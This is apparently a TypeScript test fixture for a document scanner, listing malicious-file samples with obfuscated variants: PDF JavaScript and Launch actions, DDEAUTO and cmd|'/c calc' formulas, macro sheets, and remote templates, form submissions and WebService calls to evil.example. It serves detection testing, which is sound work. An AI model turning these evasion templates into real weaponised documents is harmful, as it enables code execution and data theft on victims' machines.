// Files that carry programs, by what each holds: first as it stands, then behind an evasion.
import { deflateSync } from 'node:zlib'
import { aBook, aCompound, aFib } from '#tests/provider/files-made.ts'
import {
  aDocx, anXlsx, book, cells, char, contentTypes, field, instruction, override, paragraph, relationship,
  relationships,
} from './office.ts'
import { aPaper, aStream, packedObjects } from './pdfs.ts'

const js = '<< /S /JavaScript /JS (app.alert(1)) >>'
const macroSheet = 'application/vnd.ms-excel.macrosheet+xml'
const outside = (kind: string, target: string, mode = 'External') => ({
  'word/_rels/document.xml.rels': relationships(relationship('r9', kind, target, mode)),
})
const outsideSheet = (kind: string, target: string, mode = 'External') => ({
  'xl/_rels/workbook.xml.rels': relationships(relationship('r9', kind, target, mode)),
})
const dtd = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a/>'

export const badFiles: Record<string, [name: string, bytes: Buffer][]> = {
  'a program of a PDF': [
    ['a.pdf', aPaper({ catalog: '/OpenAction 4 0 R', objects: [js] })],
    ['a.pdf', aPaper({ catalog: '/OpenAction 4 0 R', objects: ['<< /S /J#61va#53cript /J#53 (1) >>'] })],
  ],
  'packed objects of a PDF': [
    ['a.pdf', aPaper({ objects: [packedObjects(js)] })],
    ['a.pdf', aPaper({ objects: [packedObjects(js, '/Type /ObjStm /Foo (obj) /Filter /FlateDecode')] })],
    ['a.pdf', aPaper({ objects: [packedObjects(js, '/Type /ObjStm /F#69lter /FlateDecode')] })],
    ['a.pdf', aPaper({ objects: [packedObjects(js, '/Type /Obj#53tm /N 1 /First 5 /F#69lter [/Fl]')] })],
    ['a.pdf', aPaper({ objects: [packedObjects(js, '/Foo (stream\n) /Type /ObjStm /Filter /FlateDecode')] })],
    ['a.pdf', aPaper({ objects: [packedObjects(js, '/Kind 1 /Filter /FlateDecode')] })],
    ['a.pdf', aPaper({ objects: [aStream('/Type /ObjStm /Filter [/FlateDecode /FlateDecode]',
      deflateSync(Buffer.from(`9 0 ${js}`)))] })],
    ['a.pdf', aPaper({ objects: [aStream('/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]',
      deflateSync(Buffer.from(`9 0 ${js}`)).toString('hex'), true)] })],
  ],
  'something that a PDF starts': [
    ['a.pdf', aPaper({ page: '/AA << /O << /S /Launch /F (calc.exe) >> >>' })],
    ['a.pdf', aPaper({ page: '/AA << /O << /S /L#61unch /F (calc.exe) >> >>' })],
  ],
  'files in a PDF': [
    ['a.pdf', aPaper({ objects: ['<< /Type /Filespec /EF << /F 5 0 R >> >>', aStream('/Type /EmbeddedFile', 'MZ')] })],
    ['a.pdf', aPaper({ objects: ['<< /Type /File#73pec /EF << /F 5 0 R >> >>', aStream('/Type /Embedded#46ile', 'MZ')] })],
  ],
  'a form that is sent': [
    ['a.pdf', aPaper({ catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' })],
    ['a.pdf', aPaper({ catalog: '/OpenAction << /S /Submit#46orm /F (https://evil.example) >>' })],
  ],
  'a form with a program of its own': [
    ['a.pdf', aPaper({ catalog: '/AcroForm << /XFA 4 0 R >>', objects: [aStream('', '<xdp/>')] })],
    ['a.pdf', aPaper({ catalog: '/AcroForm << /X#46A 4 0 R >>', objects: [aStream('', '<xdp/>')] })],
  ],
  'films': [
    ['a.pdf', aPaper({ page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 1 1] >>]' })],
    ['a.pdf', aPaper({ page: '/Annots [<< /Subtype /Rich#4dedia /Rect [0 0 1 1] >>]' })],
  ],
  'a template from elsewhere': [
    ['a.docx', aDocx(outside('attachedTemplate', 'https://evil.example/a.dotm'))],
    ['a.docx', aDocx(outside('attachedTemplate', 'file:///evil/a.dotm', ' external '))],
    ['a.docx', aDocx(outside('attachedTemplate', '\\\\evil\\a.dotm', 'Internal'))],
  ],
  'a picture from elsewhere': [
    ['a.docx', aDocx(outside('image', 'https://evil.example/a.png'))],
    ['a.docx', aDocx(outside('image', '//evil.example/a.png', ''))],
  ],
  'an object': [
    ['a.docx', aDocx({ ...outside('oleObject', 'embeddings/oleObject1.bin', ''), 'word/embeddings/oleObject1.bin': 'x' })],
    ['a.docx', aDocx({ ...outside('oleObject', 'media/image1.png', ''), 'word/media/image1.png': 'x' })],
    ['a.docx', aDocx({ 'word/document.xml': paragraph('<w:object><o:OLEObject xmlns:o="o" Type="Link"/></w:object>') })],
  ],
  'a field that starts a program': [
    ['a.docx', aDocx({ 'word/document.xml': field(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ') })],
    ['a.docx', aDocx({ 'word/document.xml': paragraph(
      `${char('begin')}${instruction(' DD')}${instruction('EAUTO cmd ')}${char('end')}`) })],
    ['a.docx', aDocx({ 'word/document.xml': field(' &#68;&#68;E cmd "/c calc" ') })],
    ['a.docx', aDocx({ 'word/document.xml': paragraph('<w:fldSimple w:instr=" dde cmd "/>') })],
    ['a.docx', aDocx({ 'word/document.xml': field('QUOTE 68 68 69') })],
    ['a.docx', aDocx({ 'word/footer1.xml': field(' INCLUDETEXT "https://evil.example/a" ') })],
  ],
  'macros': [
    ['a.docx', aDocx({ 'word/vbaProject.bin': 'x' })],
    ['a.docx', aDocx({ 'word/innocent.xml': '<a/>' },
      [override('word/innocent.xml', 'application/vnd.ms-office.vbaProject')])],
    ['a.docx', aDocx({ '[Content_Types].xml': contentTypes(override('word/document.xml',
      'application/vnd.ms-word.document.macroEnabled.main+xml')) })],
  ],
  'another file within': [
    ['a.docx', aDocx(outside('aFChunk', 'chunk.html', ''))],
    ['a.docx', aDocx({ 'word/document.xml': paragraph('<w:altChunk/>') })],
  ],
  'a sheet of macros': [
    ['a.xlsx', anXlsx({ 'xl/macrosheets/sheet1.xml': cells('<f>EXEC("calc")</f>') },
      [override('xl/macrosheets/sheet1.xml', macroSheet)])],
    ['a.xlsx', anXlsx({ 'xl/worksheets/sheet2.xml': cells('<f>1</f>') },
      [override('xl/worksheets/sheet2.xml', macroSheet)])],
    ['a.xlsx', anXlsx({ 'xl/workbook.xml': book('<definedNames><definedName name="Auto_Open" xlm="1">A1'
      + '</definedName></definedNames>') })],
  ],
  'a formula that starts a program': [
    ['a.xlsx', anXlsx({ 'xl/worksheets/sheet1.xml': cells("<f>cmd|'/c calc'!A0</f>") })],
    ['a.xlsx', anXlsx({ 'xl/worksheets/sheet1.xml': cells("<f>cmd&#x7c;'/c calc'!A0</f>") })],
    ['a.xlsx', anXlsx({ 'xl/worksheets/sheet1.xml': cells('<f>WebService ("https://evil.example")</f>') })],
  ],
  'data from elsewhere': [
    ['a.xlsx', anXlsx(outsideSheet('externalLink', 'externalLinks/externalLink1.xml', ''))],
    ['a.xlsx', anXlsx(outsideSheet('connections', 'connections.xml', ''))],
    ['a.xlsx', anXlsx(outsideSheet('worksheet', 'https://evil.example/sheet.xml'))],
  ],
  'XML that is more than it says': [
    ['a.docx', aDocx({ 'word/_rels/document.xml.rels': dtd })],
    ['a.docx', aDocx({ 'word/_rels/document.xml.rels': Buffer.from(`\ufeff${relationships(
      relationship('r9', 'attachedTemplate', 'https://evil.example/', 'External'))}`, 'utf16le') })],
  ],
  'an older file that is none': [
    ['a.doc', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4_000),
      Buffer.from('WordDocument\0', 'utf16le')])],
    ['a.doc', aCompound(['WordDocument', Buffer.alloc(600)])],
    ['a.xls', aCompound(['Workbook', Buffer.from('nothing of a book')])],
  ],
  'an older file with a program': [
    ['a.doc', aCompound('WordDocument', ['Macros/VBA/_VBA_PROJECT', Buffer.from('x')])],
    ['a.doc', aCompound('WordDocument', ['ObjectPool/_1/\u0001Ole10Native', Buffer.from('x')])],
    ['a.doc', aCompound(['WordDocument', aFib('\x13 DDEAUTO cmd')])],
    ['a.xls', aCompound(['Workbook', aBook([0x0085, 0, 0, 0, 0, 0, 1, 1, 0, 65])])],
    ['a.xls', aCompound(['Workbook', Buffer.concat([aBook(), Buffer.from('0908080000064000', 'hex'), Buffer.alloc(4)])])],
    ['a.xls', aCompound(['Workbook', aBook([0x01ae, 1, 0, 3, 0, 99, 109, 100])])],
  ],
}
